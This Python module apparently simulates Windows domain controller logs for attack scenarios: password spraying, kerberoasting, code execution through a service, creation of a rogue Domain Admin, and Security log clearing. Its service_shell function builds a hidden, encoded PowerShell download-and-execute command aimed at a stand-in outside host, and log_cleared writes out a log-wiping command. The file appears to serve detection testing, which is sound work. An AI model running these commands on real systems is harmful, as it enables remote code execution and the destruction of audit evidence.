"""Attacks on the Windows domain, as its controllers see them."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime
from random import Random

from connectors.simulator import windows
from connectors.simulator.domain import POWERSHELL, SYSTEM32, account, controller, machine, person, services
from connectors.simulator.stream import Line, later
from connectors.simulator.windows import Program
from connectors.simulator.world import Person, World, peer

GENERIC = ("hanhchinh", "vanthu", "ketoan", "thukho")  # names that attackers' lists hold and this domain doesn't
STOLEN = 1  # which administrator is robbed


def foothold(world: World) -> Person:
    """Return who doesn't know that somebody else uses their computer."""
    return world.staff[len(world.staff) // 6]


def found(world: World) -> Person:
    """Return who has the password that everybody guesses."""
    return world.staff[len(world.staff) // 3]


def password_spray(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """One computer tries one password on every account it knows or guesses; one account has it."""
    host, ip = controller(world), foothold(world).ip
    tried = [(person(world, who, random), "0xc000006a") for who in world.staff]
    tried += [(replace(tried[0][0], name=name), "0xc0000064") for name in GENERIC]
    random.shuffle(tried)
    for who, cause in tried:
        yield windows.logon_failed(at, host, who, cause, peer(random, ip))
        at = later(at, random, 2, 9)
    yield windows.logon(at, host, person(world, found(world), random), peer(random, ip))


def kerberoasting(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """The account that was found asks for a ticket of every service, in the weak cipher that can be cracked."""
    user, ip = person(world, found(world), random), foothold(world).ip
    for service in services(world):
        yield windows.service_ticket(at, controller(world), user, service, cipher="0x17", peer=peer(random, ip))
        at = later(at, random, 0.05, 0.6)


def service_shell(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """A stolen administrator account runs code on the controller through a service."""
    host, thief = controller(world), person(world, world.administrators[STOLEN], random)
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{world.strangers[6]}/a')"
    command = f"powershell.exe -nop -w hidden -enc {b64encode(script.encode('utf-16-le')).decode()}"
    path = f"%COMSPEC% /b /c start /b /min {command}"
    yield windows.logon(at, host, thief, peer(random, foothold(world).ip))
    yield windows.privileges(at, host, thief)
    at = later(at, random, 3, 20)
    name = "".join(random.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(8))
    yield windows.service_installed(at, host, name, path, "demand start")
    at, number, shell = later(at, random, 0.2, 1), 4 * random.randrange(200, 5_000), SYSTEM32 + "cmd.exe"
    first = Program(shell, path.replace("%COMSPEC%", shell), SYSTEM32 + "services.exe")
    yield windows.process(at, host, machine(world, host), first, number)
    second = Program(POWERSHELL, command, shell)
    yield windows.process(later(at, random, 0.1, 0.5), host, machine(world, host), second, number + 96)


def new_administrator(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """The same account makes another one, which looks like a service, domain administrator."""
    host, thief = controller(world), person(world, world.administrators[STOLEN], random)
    new = account(world, "svc-health", random.randrange(4_900, 4_999))
    yield windows.account_created(at, host, thief, new)
    yield windows.member_added(later(at, random, 8, 30), host, thief, new, group="Domain Admins", number=512)


def log_cleared(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """The traces are removed; this removal is the only trace that can't be."""
    host, thief = controller(world), person(world, world.administrators[STOLEN], random)
    program = Program(SYSTEM32 + "wevtutil.exe", "wevtutil cl Security", SYSTEM32 + "cmd.exe")
    yield windows.process(at, host, thief, program, 4 * random.randrange(200, 5_000))
    yield windows.log_cleared(later(at, random, 0.2, 1), host, thief)
